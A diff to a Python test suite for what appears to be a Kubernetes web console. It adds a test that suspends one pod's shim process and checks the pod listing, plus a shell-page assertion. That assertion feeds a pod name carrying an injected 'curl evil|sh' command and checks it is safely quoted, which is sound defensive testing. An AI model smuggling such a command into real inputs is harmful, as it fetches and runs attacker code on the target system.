@@ -2,8 +2,10 @@
 may only read sees no buttons and is refused, hostile text is harmless."""
 
 import json
+import os
 import re
 import secrets
+import signal
 import urllib.parse
 import uuid
 from html.parser import HTMLParser
@@ -17,6 +19,7 @@ from harness.clusters import Clusters, cluster_body
 from harness.console import Browser, Form, typed
 from harness.containers import SHELL, push_shell
 from harness.entra import Entra
+from harness.leftovers import shims
 from harness.machine import need
 from harness.manager import READER
 from harness.node import packages, run_checks
@@ -404,6 +407,31 @@ def test_use_beside_requests(owner, cluster, k):
     assert "busy" in k("top", "pods")
 
 
+def test_a_pod_that_cannot_be_asked_hides_no_others(sundog, owner, cluster, k):
+    """Its supervisor stands still: the lists are shown all the same, without what it uses."""
+    def begin(name):
+        k("run", name, f"--image={IMAGE}", "--restart=Never", "--command", "--", "sleep", "1000")
+        k("wait", "--for=condition=Ready", f"pod/{name}", "--timeout=120s")
+
+    begin("fine")
+    before = set(shims(sundog.data))
+    begin("stuck")
+    stopped = set(shims(sundog.data)) - before
+    assert len(stopped) == 1, stopped
+    for pid in stopped:
+        os.kill(pid, signal.SIGSTOP)
+    try:
+        page = owner.get(page_of(cluster, f"/pods?namespace={k.namespace}"))
+        assert page.status == 200 and re.search(rf"stuck {k.namespace} Running 1/1 0 – ", page.text), page.text
+        assert re.search(rf"fine {k.namespace} Running 1/1 0 [\d.]+ ", page.text), page.text
+        assert owner.get(page.links["stuck"]).status == owner.get(page_of(cluster)).status == 200
+        top = k("top", "pods")
+        assert "fine" in top and "stuck" not in top, top
+    finally:
+        for pid in stopped:
+            os.kill(pid, signal.SIGCONT)
+
+
 def test_services(owner, cluster, k):
     k.apply({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "inner"}, "spec": {"selector": {"a": "b"}, "ports": [{"port": 80}]}})
     k.apply({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "outer"},
@@ -576,6 +604,8 @@ def test_a_shell_in_a_pod(owner, person, cluster, k):
     pod = owner.get(objects(cluster, f"core/v1/pods/{k.namespace}/p"))
     page = owner.get(pod.links["Shell"])
     assert "kubectl exec -it p" in page.text
+    hostile = owner.get(page_of(cluster, "/pods/d%3B%20b/x%3Bcurl%20evil%7Csh%3B/shell"))  # of a link that somebody sent
+    assert "kubectl exec -it 'x;curl evil|sh;' -n 'd; b' --" in hostile.text, hostile.text
     path = page_of(cluster, f"/pods/{k.namespace}/p/terminal")
     assert path + "?container=p" in page.body
     said = typed(owner.terminal(path, "p"), b"stty size; echo $((40+2))-done; exit\n")
